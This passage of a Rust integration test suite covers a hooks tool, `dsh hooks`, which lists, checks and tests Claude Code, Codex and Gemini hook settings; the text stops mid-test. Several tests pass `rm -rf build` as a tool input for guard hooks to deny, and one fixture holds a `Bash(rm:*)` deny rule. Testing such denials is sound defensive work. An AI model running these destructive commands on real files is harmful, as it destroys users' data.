//! `dsh hooks list | check | test | replay | log | trust | untrust` as a user
//! runs them, over `fixtures/hooks-tooling/` (real hook scripts, the real
//! runner and bridges; HOME, DSH_HOME and CODEX_HOME are temporary).

#![allow(clippy::unwrap_used)] // tests: a failed unwrap is a failed test

use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::support::{TestContext, fixture, repo_root};

fn tooling() -> PathBuf {
    fixture("hooks-tooling")
}

/// A project with the fixture's `.claude/settings.json` and `.codex/hooks.json`.
fn project() -> TestContext {
    let ctx = TestContext::new();
    ctx.copy_into_project(&tooling().join("project"));
    ctx
}

/// `dsh` in the project with `HOOKS` pointing at `hooks` (the fixture scripts by default).
fn dsh_with(ctx: &TestContext, hooks: &Path) -> assert_cmd::Command {
    let mut cmd = ctx.dsh();
    cmd.env("HOOKS", hooks);
    cmd
}

fn dsh(ctx: &TestContext) -> assert_cmd::Command {
    dsh_with(ctx, &tooling().join("hooks"))
}

fn redact(ctx: &TestContext, text: &str) -> String {
    let text = ctx.redact(text);
    let text = text.replace(&repo_root().display().to_string(), "[REPO]");
    let ts = regex::Regex::new(r"\d{4}-\d\d-\d\dT[0-9:.]+Z").unwrap();
    ts.replace_all(&text, "[TS]").into_owned()
}

fn snapshot_output(ctx: &TestContext, output: &std::process::Output) -> String {
    format!(
        "exit: {}\n--- stdout\n{}--- stderr\n{}",
        output
            .status
            .code()
            .map_or("signal".to_owned(), |c| c.to_string()),
        redact(ctx, &String::from_utf8_lossy(&output.stdout)),
        redact(ctx, &String::from_utf8_lossy(&output.stderr)),
    )
}

fn json_stdout(output: &std::process::Output) -> Value {
    serde_json::from_slice(&output.stdout).unwrap_or_else(|error| {
        panic!(
            "stdout is not JSON ({error}):\n{}\nstderr:\n{}",
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr)
        )
    })
}

// ------------------------------------------------------------------ list

#[test]
fn list_into_a_reader_that_already_left_exits_cleanly() {
    // `dsh hooks list | head -0`, made deterministic: the read end is closed
    // before dsh starts, so its first write to stdout fails with EPIPE.
    let ctx = project();
    let (read_end, write_end) = nix::unistd::pipe().unwrap();
    drop(read_end);
    let output = ctx
        .dsh_std()
        .env("HOOKS", tooling().join("hooks"))
        .args(["hooks", "list"])
        .stdout(std::process::Stdio::from(write_end))
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(!stderr.contains("panicked"), "dsh panicked:\n{stderr}");
    assert_eq!(output.status.code(), Some(0), "stderr:\n{stderr}");
    assert_eq!(stderr, "", "a closed stdout is not an error to report");
}

#[test]
fn list_shows_both_dialects_in_the_order_they_run() {
    let ctx = project();
    let output = dsh(&ctx).args(["hooks", "list"]).output().unwrap();
    assert_eq!(output.status.code(), Some(0));
    insta::assert_snapshot!(snapshot_output(&ctx, &output));
}

#[test]
fn list_as_json_names_file_position_timeout_and_status() {
    let ctx = project();
    let output = dsh(&ctx)
        .args(["hooks", "list", "--format", "json"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0));
    let doc = json_stdout(&output);
    let hooks = doc["hooks"].as_array().unwrap();
    let events: Vec<(&str, &str)> = hooks
        .iter()
        .map(|h| (h["event"].as_str().unwrap(), h["dialect"].as_str().unwrap()))
        .collect();
    assert_eq!(
        events,
        vec![
            ("UserPromptSubmit", "claude"),
            ("PreToolUse", "claude"),
            ("PreToolUse", "codex"),
            ("PostToolUse", "claude"),
        ]
    );
    let pre = &hooks[1];
    assert_eq!(pre["matcher"], "Bash");
    assert_eq!(pre["timeout_secs"], 30.0);
    assert_eq!(pre["status"], "active");
    assert_eq!(pre["trust"], "untrusted");
    assert!(
        pre["origin"]
            .as_str()
            .unwrap()
            .ends_with(".claude/settings.json#hooks.PreToolUse[0].hooks[0]")
    );
}

#[test]
fn list_names_each_settings_layer_whose_hooks_are_off_and_why() {
    // The fixture's repository is not trusted; the user switched hooks off.
    let ctx = project();
    let user = ctx.home().join(".claude/settings.json");
    std::fs::create_dir_all(user.parent().unwrap()).unwrap();
    std::fs::write(&user, r#"{"disableAllHooks": true}"#).unwrap();
    let layers = |ctx: &TestContext| {
        let output = dsh(ctx)
            .args(["hooks", "list", "--format", "json"])
            .output()
            .unwrap();
        assert_eq!(output.status.code(), Some(0));
        let doc = json_stdout(&output);
        doc["settings_layers"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|layer| layer["exists"] == true)
            .map(|layer| {
                (
                    layer["source"].as_str().unwrap().to_owned(),
                    layer["disabled"].as_str().map(|why| redact(ctx, why)),
                )
            })
            .collect::<Vec<_>>()
    };
    // Each hook's row says what the layers say (one stack decides both).
    let statuses = |ctx: &TestContext| {
        let output = dsh(ctx)
            .args(["hooks", "list", "--format", "json"])
            .output()
            .unwrap();
        let doc = json_stdout(&output);
        let mut statuses: Vec<String> = doc["hooks"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|hook| hook["dialect"] == "claude")
            .map(|hook| redact(ctx, hook["status"].as_str().unwrap()))
            .collect();
        statuses.dedup();
        statuses
    };
    assert_eq!(
        statuses(&ctx),
        ["disabled: disableAllHooks in [HOME]/.claude/settings.json"]
    );
    let off = Some("hooks off: disableAllHooks in [HOME]/.claude/settings.json".to_owned());
    assert_eq!(
        layers(&ctx),
        [
            ("project".to_owned(), off.clone()),
            ("user".to_owned(), off.clone())
        ]
    );
    let output = dsh(&ctx).args(["hooks", "list"]).output().unwrap();
    let text = redact(&ctx, &String::from_utf8_lossy(&output.stdout));
    let expected = "\nSettings layers switched off:\n  \
        .claude/settings.json (project): hooks off: disableAllHooks in [HOME]/.claude/settings.json\n  \
        [HOME]/.claude/settings.json (user): hooks off: disableAllHooks in [HOME]/.claude/settings.json\n\nPermissions\n";
    assert!(text.contains(expected), "{text}");
    // The repository's own switch waits for a trusted workspace: a session
    // here holds its layer back and runs the user's hooks.
    std::fs::write(&user, "{}").unwrap();
    let project_settings = ctx.project().join(".claude/settings.json");
    let mut doc: Value =
        serde_json::from_str(&std::fs::read_to_string(&project_settings).unwrap()).unwrap();
    doc["disableAllHooks"] = Value::Bool(true);
    std::fs::write(&project_settings, doc.to_string()).unwrap();
    assert_eq!(
        layers(&ctx),
        [
            (
                "project".to_owned(),
                Some("held back: the workspace is not trusted (env, disableAllHooks and allow rules wait)".to_owned())
            ),
            ("user".to_owned(), None)
        ]
    );
    assert_eq!(statuses(&ctx), ["active"]);
}

#[test]
fn list_takes_inline_settings_json_as_a_session_does() {
    // `--settings '{…}'` is the settings JSON itself, not a file in the
    // project directory.
    let ctx = project();
    let output = dsh(&ctx)
        .args(["hooks", "list", "--format", "json", "--settings"])
        .arg(r#"{"disableAllHooks": true}"#)
        .output()
        .unwrap();
    assert_eq!(
        output.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let doc = json_stdout(&output);
    let statuses: Vec<&str> = doc["hooks"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|hook| hook["dialect"] == "claude")
        .map(|hook| hook["status"].as_str().unwrap())
        .collect();
    assert!(
        !statuses.is_empty()
            && statuses
                .iter()
                .all(|status| status.contains("disableAllHooks in --settings")),
        "{statuses:?}"
    );
    let flag = doc["settings_layers"]
        .as_array()
        .unwrap()
        .iter()
        .find(|layer| layer["source"] == "flag")
        .unwrap();
    assert_eq!(flag["exists"], true, "{flag}");
}

#[test]
fn list_with_nothing_configured_says_so() {
    let ctx = TestContext::new();
    let output = dsh(&ctx).args(["hooks", "list"]).output().unwrap();
    assert_eq!(output.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&output.stdout).contains("No hooks configured"));
}

#[test]
fn list_of_a_malformed_settings_file_names_line_and_column() {
    let ctx = project();
    std::fs::copy(
        tooling().join("bad/malformed.settings.json"),
        ctx.project().join(".claude/settings.json"),
    )
    .unwrap();
    let output = dsh(&ctx).args(["hooks", "list"]).output().unwrap();
    assert_eq!(output.status.code(), Some(2));
    let stderr = redact(&ctx, &String::from_utf8_lossy(&output.stderr));
    assert!(
        stderr.contains("[PROJECT]/.claude/settings.json:5:5"),
        "{stderr}"
    );
}

// ----------------------------------------------------------------- check

#[test]
fn check_of_a_clean_project_passes() {
    let ctx = project();
    let output = dsh(&ctx).args(["hooks", "check"]).output().unwrap();
    insta::assert_snapshot!(snapshot_output(&ctx, &output));
    assert_eq!(output.status.code(), Some(0));
}

#[test]
fn check_reports_what_would_surprise_a_user() {
    let ctx = project();
    let output = dsh(&ctx)
        .args(["hooks", "check"])
        .arg(tooling().join("bad/surprises.settings.json"))
        .output()
        .unwrap();
    insta::assert_snapshot!(snapshot_output(&ctx, &output));
    assert_eq!(
        output.status.code(),
        Some(1),
        "errors make the exit status 1"
    );
}

#[test]
fn check_reports_malformed_json_invalid_regex_and_malformed_toml() {
    let ctx = project();
    let bad = tooling().join("bad");
    let output = dsh(&ctx)
        .args(["hooks", "check"])
        .arg(bad.join("malformed.settings.json"))
        .arg(bad.join("invalid_regex.settings.json"))
        .arg(bad.join("codex/config.toml"))
        .arg(bad.join("codex/hooks.json"))
        .output()
        .unwrap();
    insta::assert_snapshot!(snapshot_output(&ctx, &output));
    assert_eq!(output.status.code(), Some(1));
}

#[test]
fn check_json_is_machine_readable_and_warnings_alone_exit_zero() {
    let ctx = project();
    // Only warnings: a matcher on an event that ignores it, a timeout in ms.
    std::fs::write(
        ctx.project().join("warn.settings.json"),
        r#"{"hooks": {"Stop": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "true", "timeout": 2000}]}]}}"#,
    )
    .unwrap();
    let output = dsh(&ctx)
        .args(["hooks", "check", "warn.settings.json", "--format", "json"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0));
    let doc = json_stdout(&output);
    assert_eq!(doc["errors"], 0);
    assert_eq!(doc["warnings"], 2);
    let codes: Vec<&str> = doc["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["code"].as_str().unwrap())
        .collect();
    assert_eq!(codes, vec!["matcher-ignored", "timeout-milliseconds"]);
    assert_eq!(doc["diagnostics"][0]["position"], "1:33");
}

/// StopFailure is fired (no `event-not-fired`), and a matcher none of its
/// error categories satisfies is pointed out.
#[test]
fn check_knows_stop_failure_and_its_categories() {
    let ctx = project();
    std::fs::write(
        ctx.project().join("sf.settings.json"),
        r#"{"hooks": {"StopFailure": [
            {"matcher": "rate_limit|server_error", "hooks": [{"type": "command", "command": "true"}]},
            {"matcher": "overloaded", "hooks": [{"type": "command", "command": "true"}]}
        ]}}"#,
    )
    .unwrap();
    let output = dsh(&ctx)
        .args(["hooks", "check", "sf.settings.json", "--format", "json"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0));
    let doc = json_stdout(&output);
    let found: Vec<(&str, &str)> = doc["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| (d["code"].as_str().unwrap(), d["at"].as_str().unwrap()))
        .collect();
    assert_eq!(
        found,
        vec![("matcher-never-matches", "hooks.StopFailure[1].matcher")],
        "{doc}"
    );
}

/// The lifecycle events are known and fired: no `unsupported-event` for Setup,
/// MessageDisplay, CwdChanged or the model-switch events, and a Setup matcher neither trigger
/// (`init`, `maintenance`) satisfies is pointed out.
#[test]
fn check_knows_the_lifecycle_events() {
    let ctx = project();
    std::fs::write(
        ctx.project().join("lc.settings.json"),
        r#"{"hooks": {
            "Setup": [
                {"matcher": "init", "hooks": [{"type": "command", "command": "true"}]},
                {"matcher": "install", "hooks": [{"type": "command", "command": "true"}]}
            ],
            "MessageDisplay": [{"hooks": [{"type": "command", "command": "true"}]}],
            "CwdChanged": [{"hooks": [{"type": "command", "command": "true"}]}],
            "PreModelSwitch": [{"matcher": "claude-sonnet-4-5", "hooks": [{"type": "command", "command": "true"}]}],
            "PostModelSwitch": [{"hooks": [{"type": "command", "command": "true"}]}]
        }}"#,
    )
    .unwrap();
    let output = dsh(&ctx)
        .args(["hooks", "check", "lc.settings.json", "--format", "json"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0));
    let doc = json_stdout(&output);
    let found: Vec<(&str, &str)> = doc["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| (d["code"].as_str().unwrap(), d["at"].as_str().unwrap()))
        .collect();
    assert_eq!(
        found,
        vec![("matcher-never-matches", "hooks.Setup[1].matcher")],
        "{doc}"
    );
}

#[test]
fn check_warns_about_a_bare_mcp_server_matcher() {
    let ctx = project();
    std::fs::write(
        ctx.project().join("mcp.settings.json"),
        r#"{"hooks": {"PreToolUse": [
            {"matcher": "mcp__echo", "hooks": [{"type": "command", "command": "true"}]},
            {"matcher": "mcp__echo__.*|Bash", "hooks": [{"type": "command", "command": "true"}]},
            {"matcher": "Bash|mcp__echo__echo", "hooks": [{"type": "command", "command": "true"}]}
        ]}}"#,
    )
    .unwrap();
    let output = dsh(&ctx)
        .args(["hooks", "check", "mcp.settings.json", "--format", "json"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0));
    let doc = json_stdout(&output);
    let codes: Vec<&str> = doc["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["code"].as_str().unwrap())
        .collect();
    assert_eq!(codes, vec!["mcp-server-matcher"], "{doc}");
    let message = doc["diagnostics"][0]["message"].as_str().unwrap();
    assert!(message.contains("mcp__echo__.*"), "{message}");
}

#[test]
fn check_names_an_agent_file_a_session_would_skip() {
    let ctx = project();
    let agents = ctx.project().join(".claude").join("agents");
    fs_err::create_dir_all(&agents).unwrap();
    fs_err::write(
        agents.join("reviewer.md"),
        "---\nname: reviewer\ndescription: x\n  bad: indent\n---\nbody\n",
    )
    .unwrap();
    let output = dsh(&ctx).args(["hooks", "check"]).output().unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        stdout.contains("warning[agent-not-loaded]")
            && stdout.contains("reviewer.md: the agent is skipped: frontmatter line 4"),
        "{stdout}"
    );
    assert_eq!(output.status.code(), Some(0), "a warning alone exits 0");
}

#[test]
fn check_of_a_missing_file_is_an_error() {
    let ctx = project();
    let output = dsh(&ctx)
        .args(["hooks", "check", "nope.settings.json"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(1));
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(stdout.contains("error[unreadable]"), "{stdout}");
}

#[test]
fn check_flags_a_script_that_is_not_executable() {
    let ctx = project();
    std::fs::write(ctx.project().join("guard.sh"), "#!/bin/sh\nexit 0\n").unwrap();
    std::fs::write(
        ctx.project().join("x.settings.json"),
        r#"{"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "\"$CLAUDE_PROJECT_DIR\"/guard.sh"}]}]}}"#,
    )
    .unwrap();
    let output = dsh(&ctx)
        .args(["hooks", "check", "x.settings.json"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(1));
    let stdout = redact(&ctx, &String::from_utf8_lossy(&output.stdout));
    assert!(
        stdout.contains("error[not-executable]") && stdout.contains("[PROJECT]/guard.sh"),
        "{stdout}"
    );
}

/// Commands are resolved as the shell will: `~`, `$HOME`, `$CLAUDE_PROJECT_DIR` and the
/// settings `env` block are known; a command substitution is "not checkable statically",
/// never a missing script; a missing script behind `~` is still an error.
#[test]
fn check_resolves_commands_as_the_shell_will() {
    use std::os::unix::fs::PermissionsExt as _;
    let ctx = project();
    let hooks = ctx.home().join("hooks");
    std::fs::create_dir_all(&hooks).unwrap();
    let guard = hooks.join("guard.sh");
    std::fs::write(&guard, "#!/bin/sh\nexit 0\n").unwrap();
    std::fs::set_permissions(&guard, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::write(hooks.join("check.py"), "print()\n").unwrap();
    let settings = serde_json::json!({
        "env": {"GUARD_DIR": hooks.display().to_string()},
        "hooks": {"PreToolUse": [{"hooks": [
            {"type": "command", "command": "~/hooks/guard.sh"},
            {"type": "command", "command": "$HOME/hooks/guard.sh --strict"},
            {"type": "command", "command": "python3 \"${GUARD_DIR}/check.py\""},
            {"type": "command", "command": "bash \"$(git rev-parse --show-toplevel)/.claude/hooks/x.sh\""},
            {"type": "command", "command": "$(git rev-parse --show-toplevel)/.claude/hooks/y.sh"},
            {"type": "command", "command": "~/hooks/missing.sh"}
        ]}]}
    });
    std::fs::write(
        ctx.project().join("x.settings.json"),
        serde_json::to_string_pretty(&settings).unwrap(),
    )
    .unwrap();
    let output = dsh(&ctx)
        .args(["hooks", "check", "x.settings.json", "--format", "json"])
        .output()
        .unwrap();
    let doc = json_stdout(&output);
    // `computed-command` is the trust note (what a trust hash can cover), not about
    // whether the script exists: left out here.
    let found: Vec<(String, String)> = doc["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|d| d["code"] != "computed-command")
        .map(|d| {
            (
                d["code"].as_str().unwrap().to_owned(),
                d["at"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect();
    let at = |i: usize| format!("hooks.PreToolUse[0].hooks[{i}].command");
    assert_eq!(
        found,
        vec![
            ("not-checkable".to_owned(), at(3)),
            ("not-checkable".to_owned(), at(4)),
            ("command-not-found".to_owned(), at(5)),
        ],
        "{doc:#}"
    );
    assert_eq!(output.status.code(), Some(1));
    let not_checkable = doc["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["code"] == "not-checkable")
        .unwrap();
    assert!(
        not_checkable["message"]
            .as_str()
            .unwrap()
            .contains("not checkable statically"),
        "{doc:#}"
    );
}

/// A Stop hook that globs `~/.claude/projects` for its transcript is pointed at
/// `transcript_path`: dsh does not write there (hooks-claude README, "Transcripts").
#[test]
fn check_points_at_hooks_that_glob_claude_projects() {
    let ctx = project();
    let hooks = ctx.home().join("hooks");
    std::fs::create_dir_all(&hooks).unwrap();
    std::fs::write(
        hooks.join("summarise.sh"),
        "#!/bin/sh\nid=$(jq -r .session_id)\nf=$(ls ~/.claude/projects/*/\"$id\".jsonl)\ntail -1 \"$f\"\n",
    )
    .unwrap();
    std::fs::write(
        hooks.join("reads_input.sh"),
        "#!/bin/sh\njq -r .transcript_path\n",
    )
    .unwrap();
    std::fs::write(
        ctx.project().join("x.settings.json"),
        r#"{"hooks": {"Stop": [{"hooks": [
            {"type": "command", "command": "bash ~/hooks/summarise.sh"},
            {"type": "command", "command": "bash ~/hooks/reads_input.sh"}
        ]}]}}"#,
    )
    .unwrap();
    let output = dsh(&ctx)
        .args(["hooks", "check", "x.settings.json", "--format", "json"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0));
    let doc = json_stdout(&output);
    let globs: Vec<&Value> = doc["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|d| d["code"] == "transcript-glob")
        .collect();
    assert_eq!(globs.len(), 1, "{doc:#}");
    assert_eq!(globs[0]["at"], "hooks.Stop[0].hooks[0].command");
    let message = globs[0]["message"].as_str().unwrap();
    assert!(
        message.contains("summarise.sh") && message.contains("transcript_path"),
        "{message}"
    );
}

/// Settings keys dsh does not act on and plugins it cannot load are warnings.
#[test]
fn check_warns_about_ignored_settings_keys_and_plugins_it_cannot_load() {
    let ctx = project();
    let user = ctx.home().join(".claude");
    std::fs::create_dir_all(&user).unwrap();
    std::fs::write(
        user.join("settings.json"),
        r#"{"permissions": {"deny": ["Bash(rm:*)"]}, "statusLine": {}, "enabledPlugins": {"ghost@nowhere": true}}"#,
    )
    .unwrap();
    let output = dsh(&ctx)
        .args(["hooks", "check", "--format", "json"])
        .output()
        .unwrap();
    let doc = json_stdout(&output);
    let diagnostics = doc["diagnostics"].as_array().unwrap();
    let ignored: Vec<&Value> = diagnostics
        .iter()
        .filter(|d| d["code"] == "ignored-key")
        .collect();
    // `permissions` is dsh's own now; `statusLine` is not.
    assert!(ignored.iter().all(|d| d["at"] != "permissions"), "{doc:#}");
    assert!(
        ignored.iter().any(|d| d["at"] == "statusLine"
            && d["file"]
                .as_str()
                .unwrap()
                .ends_with(".claude/settings.json")),
        "{doc:#}"
    );
    assert!(
        ignored.iter().all(|d| d["at"] != "enabledPlugins"),
        "{doc:#}"
    );
    let plugins: Vec<&Value> = diagnostics
        .iter()
        .filter(|d| d["code"] == "plugin-not-loaded")
        .collect();
    assert_eq!(plugins.len(), 1, "{doc:#}");
    assert!(
        plugins[0]["message"]
            .as_str()
            .unwrap()
            .contains("ghost@nowhere"),
        "{doc:#}"
    );
    assert_eq!(doc["errors"], 0, "{doc:#}");
}

/// In a plugin's `hooks/hooks.json`, `${CLAUDE_PLUGIN_ROOT}` is the plugin's directory.
#[test]
fn check_resolves_the_plugin_root_in_a_plugin_hooks_file() {
    use std::os::unix::fs::PermissionsExt as _;
    let ctx = project();
    let root = ctx.home().join("src/guard");
    std::fs::create_dir_all(root.join(".claude-plugin")).unwrap();
    std::fs::create_dir_all(root.join("scripts")).unwrap();
    std::fs::create_dir_all(root.join("hooks")).unwrap();
    let guard = root.join("scripts/guard.sh");
    std::fs::write(&guard, "#!/bin/sh\nexit 0\n").unwrap();
    std::fs::set_permissions(&guard, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::write(
        root.join("hooks/hooks.json"),
        r#"{"hooks": {"PreToolUse": [{"hooks": [
            {"type": "command", "command": "${CLAUDE_PLUGIN_ROOT}/scripts/guard.sh"},
            {"type": "command", "command": "${CLAUDE_PLUGIN_ROOT}/scripts/missing.sh"}
        ]}]}}"#,
    )
    .unwrap();
    let output = dsh(&ctx)
        .args(["hooks", "check", "--format", "json"])
        .arg(root.join("hooks/hooks.json"))
        .output()
        .unwrap();
    let doc = json_stdout(&output);
    assert_eq!(doc["files"][0]["dialect"], "claude", "{doc:#}");
    // `computed-command` is the trust note, not about whether the script exists.
    let diagnostics: Vec<&Value> = doc["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|d| d["code"] != "computed-command")
        .collect();
    let found: Vec<(&str, &str)> = diagnostics
        .iter()
        .map(|d| {
            (
                d["code"].as_str().unwrap(),
                d["at"].as_str().unwrap_or_default(),
            )
        })
        .collect();
    assert_eq!(
        found,
        vec![("command-not-found", "hooks.PreToolUse[0].hooks[1].command")],
        "{doc:#}"
    );
    let message = diagnostics[0]["message"].as_str().unwrap();
    assert!(
        message.contains(&root.join("scripts/missing.sh").display().to_string()),
        "{message}"
    );
}

// ------------------------------------------------------------------ test

#[test]
fn test_pre_tool_use_denies_through_both_bridges() {
    let ctx = project();
    let output = dsh(&ctx)
        .args([
            "hooks",
            "test",
            "--trust-all",
            "PreToolUse",
            "--tool",
            "Bash",
            "--input",
            r#"{"tool_input": {"command": "rm -rf build"}}"#,
        ])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0));
    insta::assert_snapshot!(snapshot_output(&ctx, &output));
}

#[test]
fn test_pre_tool_use_allows_a_safe_command_for_one_dialect() {
    let ctx = project();
    let output = dsh(&ctx)
        .args([
            "hooks",
            "test",
            "--trust-all",
            "PreToolUse",
            "--dialect",
            "codex",
            "--format",
            "json",
            "--input",
            r#"{"tool_name": "Bash", "tool_input": {"command": "ls"}}"#,
        ])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0));
    let doc = json_stdout(&output);
    assert_eq!(doc["summary"], "allow");
    let runs = doc["runs"].as_array().unwrap();
    assert_eq!(runs.len(), 1, "only the Codex hook runs: {doc}");
    assert_eq!(runs[0]["dialect"], "codex");
    assert_eq!(runs[0]["input"]["tool_input"]["command"], "ls");
    assert_eq!(runs[0]["exit_code"], 0);
}

#[test]
fn test_loads_a_plugin_dir_as_a_session_would() {
    // `--plugin-dir` takes the plugin into the session `hooks test`
    // assembles, as it does for `dsh`, `-p` and `replay`: its PreToolUse
    // hook runs and denies, with Claude Code's plugin line.
    let ctx = TestContext::new();
    let plugin = repo_root().join("fixtures/plugins/acme-tools/plugins/safety-guard");
    let output = dsh(&ctx)
        .env("SAFETY_GUARD_MODE", "strict")
        .args([
            "hooks",
            "test",
            "PreToolUse",
            "--format",
            "json",
            "--plugin-dir",
        ])
        .arg(&plugin)
        .args([
            "--input",
            r#"{"tool_name": "Bash", "tool_input": {"command": "rm -rf build"}}"#,
        ])
        .output()
        .unwrap();
    assert_eq!(
        output.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let doc = json_stdout(&output);
    assert_eq!(doc["summary"], "deny", "{doc}");
    let runs = doc["runs"].as_array().unwrap();
    assert_eq!(runs.len(), 1, "the plugin's one PreToolUse hook: {doc}");
    assert!(
        doc.to_string()
            .contains("This hook comes from the safety-guard@inline plugin."),
        "{doc}"
    );
}

#[test]
fn test_and_replay_take_the_session_flags_and_hooks_see_the_permission_mode() {
    // `dsh hooks test` takes the flags every session takes; the mode a
    // hook is shown is the one `--permission-mode` names.
    let ctx = TestContext::new();
    let seen = ctx.project().join("seen.json");
    let extra = ctx.project().join("extra.json");
    fs_err::write(
        &extra,
        serde_json::json!({"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [
            {"type": "command", "command": format!("cat > '{}'", seen.display())}]}]}})
        .to_string(),
    )
    .unwrap();
    let run = |mode: Option<&str>| {
        let mut command = dsh(&ctx);
        command.args([
            "hooks",
            "test",
            "PreToolUse",
            "--tool",
            "Bash",
            "--settings",
        ]);
        command.arg(&extra);
        if let Some(mode) = mode {
            command.args(["--permission-mode", mode]);
        }
        let output = command.output().unwrap();
        assert_eq!(
            output.status.code(),
            Some(0),
            "{}",
            String::from_utf8_lossy(&output.stderr)
        );
        let payload: serde_json::Value =
            serde_json::from_str(&fs_err::read_to_string(&seen).unwrap()).unwrap();
        payload["permission_mode"].as_str().unwrap().to_owned()
    };
    assert_eq!(run(Some("plan")), "plan");
    assert_eq!(run(Some("acceptEdits")), "acceptEdits");
    // Without the flag, the bridge's default, as before.
    assert_eq!(run(None), "bypassPermissions");
    // A flag a session rejects is rejected here too, naming the value.
    let output = dsh(&ctx)
        .args([
            "hooks",
            "test",
            "PreToolUse",
            "--permission-mode",
            "sometimes",
        ])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&output.stderr).contains("sometimes"),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
}

#[test]
fn codex_hooks_see_the_permission_mode_the_flag_names() {
    // Codex derives `permission_mode` itself (from its approval policy;
    // `bypassPermissions` without one, as `codex exec` runs); a
    // `--permission-mode` given to dsh is what Codex hooks see.
    let ctx = TestContext::new();
    let codex = ctx.project().join(".codex");
    std::fs::create_dir_all(&codex).unwrap();
    std::fs::write(
        codex.join("hooks.json"),
        r#"{"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "cat > seen.json"}]}]}}"#,
    )
    .unwrap();
    let mode = |flags: &[&str]| {
        let mut args = vec!["PreToolUse", "--tool", "Bash", "--dialect", "codex"];
        args.extend_from_slice(flags);
        let report = json_stdout(&hooks_test(&ctx, &args));
        assert_eq!(report["runs"][0]["dialect"], "codex", "{report}");
        json_file(&ctx, "seen.json")["permission_mode"].clone()
    };
    assert_eq!(mode(&["--permission-mode", "plan"]), "plan");
    assert_eq!(mode(&["--permission-mode", "acceptEdits"]), "acceptEdits");
    assert_eq!(mode(&[]), "bypassPermissions");
}

#[test]
fn test_that_runs_nothing_says_why_a_configured_hook_did_not_run() {
    // A Gemini hook in a folder Gemini CLI does not trust does not run; the
    // report says so instead of only "no configured hook matches".
    let ctx = TestContext::new();
    let gemini = ctx.project().join(".gemini");
    fs_err::create_dir_all(&gemini).unwrap();
    fs_err::write(
        gemini.join("settings.json"),
        r#"{"hooks": {"BeforeTool": [{"hooks": [{"type": "command", "command": "exit 2"}]}]}}"#,
    )
    .unwrap();
    let output = dsh(&ctx)
        .args([
            "hooks",
            "test",
            "--trust-all",
            "PreToolUse",
            "--tool",
            "Bash",
        ])
        .args(["--input", r#"{"tool_input": {"command": "ls"}}"#])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0));
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(stdout.contains("hooks run: none"), "{stdout}");
    assert!(
        stdout.contains("notices:") && stdout.contains("not trusted by Gemini CLI"),
        "{stdout}"
    );
}

#[test]
fn test_reads_the_payload_from_stdin_when_input_is_a_dash() {
    let ctx = project();
    let output = dsh(&ctx)
        .args([
            "hooks",
            "test",
            "--trust-all",
            "UserPromptSubmit",
            "--input",
            "-",
        ])
        .write_stdin(r#"{"prompt": "from stdin"}"#)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert_eq!(output.status.code(), Some(0), "{stdout}");
    assert!(stdout.contains("user message: from stdin"), "{stdout}");
}

#[test]
fn test_pre_tool_use_validates_the_call_as_a_session_would() {
    // `bash` needs `command`: a session rejects this call before any hook
    // runs, and `hooks test` decides through the same registry, so it says
    // so instead of reporting the hooks' "allow".
    let ctx = project();
    let output = dsh(&ctx)
        .args([
            "hooks",
            "test",
            "--trust-all",
            "PreToolUse",
            "--format",
            "json",
            "--input",
            r#"{"tool_name": "Bash", "tool_input": {"cmd": "ls"}}"#,
        ])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0));
    let doc = json_stdout(&output);
    assert_eq!(doc["summary"], "rejected before any hook decided", "{doc}");
    assert_eq!(doc["runs"].as_array().unwrap().len(), 0, "{doc}");
    assert_eq!(
        doc["decision"]["stopped"]["disposition"]["kind"], "invalid_arguments",
        "{doc}"
    );
    let sees = doc["model_sees"][0].as_str().unwrap();
    assert!(
        sees.starts_with("tool result (error): Invalid arguments for `bash`"),
        "{sees}"
    );
}

#[test]
fn test_user_prompt_submit_block_shows_what_the_user_sees() {
    let ctx = project();
    let input = ctx.project().join("prompt.json");
    std::fs::write(&input, r#"{"prompt": "here is my secret token"}"#).unwrap();
    let output = dsh(&ctx)
        .args([
            "hooks",
            "test",
            "--trust-all",
